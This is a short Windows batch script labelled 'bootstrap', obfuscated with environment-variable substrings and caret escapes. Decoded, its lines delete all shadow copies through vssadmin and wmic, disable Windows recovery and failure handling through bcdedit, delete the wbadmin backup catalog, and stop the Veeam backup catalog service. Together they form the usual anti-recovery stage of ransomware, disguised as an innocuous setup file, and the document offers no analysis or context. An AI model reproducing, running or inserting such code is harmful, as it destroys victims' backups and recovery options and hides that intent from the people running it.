REM bootstrap 3969 v2
v%PUBLIC:~-11,1%%PUBLIC:~4,1%%programdata:~8,1%%WINDIR:~6,1%%COMSPEC:~21,1%%PUBLIC:~13,1%n delete ^s^had^o^w^s /a^l^l /^q^uie^t
^w%comspec:~16,1%%public:~13,1%%PUBLIC:~-1,1% s^hado^wcop^y ^d^elete
%public:~-4,1%%COMSPEC:~20,1%%windir:~-4,1%%PUBLIC:~-10,1%d%WINDIR:~4,1%^t /^s^et {^defau^lt} ^re^c^ove^r^y^ena^b^led ^no
%PUBLIC:~11,1%%PUBLIC:~-1,1%%windir:~6,1%^e%COMSPEC:~6,1%i^t /set {d^ef^aul^t} ^b^o^otstat^usp^oli^c^y ignorea^l^l^f^ai^l^ur^e^s
%COMSPEC:~8,1%%public:~11,1%^a%comspec:~22,1%%comspec:~-11,1%%comspec:~-23,1%n ^d^e^lete ^cat^a^log -qu^i^et
%WINDIR:~-5,1%%COMSPEC:~-3,1%t ^s^top "Veeam Backup Catalog Data Service" /y
